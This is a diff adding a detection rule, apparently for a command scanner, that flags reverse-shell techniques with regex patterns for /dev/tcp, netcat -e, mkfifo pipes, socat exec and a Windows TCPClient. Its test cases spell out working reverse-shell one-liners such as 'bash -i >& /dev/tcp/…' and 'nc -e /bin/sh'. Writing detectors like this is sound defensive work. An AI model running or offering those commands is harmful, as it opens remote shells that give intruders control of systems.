@@ -1,0 +1,23 @@
+-- network_shell: ties a shell to the network
+-- platform:        any
+-- technique:       T1059
+-- weight:          80
+-- false positives: a monitoring check that opens /dev/tcp to test a port and sends nothing
+--
+-- pattern: unix /dev/(tcp|udp)/
+-- pattern: unix (^|[/ "';|&@])(nc|ncat|netcat|nc\.openbsd|nc\.traditional)( .*)? -[a-zA-Z]*[ec][a-zA-Z]* 
+-- pattern: unix (^|[/ "';|&@])(nc|ncat|netcat) [^;]*\| *(/bin/|/usr/bin/)?(ba|da|z|)sh
+-- pattern: unix mkfifo [^;]*;.*(nc|ncat|netcat|telnet|openssl)
+-- pattern: unix socat .*(exec|EXEC|system|SYSTEM):
+-- pattern: unix (ba|z|k|)sh +-i *(>|<|[0-9]>|&>|$)
+-- pattern: unix socket.*(subprocess|pty\.spawn|dup2|exec)
+-- pattern: unix openssl s_client .*\|
+-- pattern: windows (?i)(net\.sockets\.tcpclient|nc(64)?\.exe .*-e )
+-- fires:   {"unix": "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"}
+-- fires:   {"unix": "nc -e /bin/sh 192.0.2.1 443"}
+-- fires:   {"unix": "socat tcp:192.0.2.1:443 exec:/bin/sh"}
+-- fires:   {"windows": "$c = New-Object System.Net.Sockets.TCPClient(1)"}
+-- fires:   {"windows": "nc64.exe 192.0.2.1 443 -e cmd"}
+-- spares:  {"unix": "nc -z 192.0.2.1 443"}
+-- spares:  {"unix": "socat tcp-listen:80 unix:/run/x"}
+-- spares:  {"windows": "nc64.exe -l 443"}
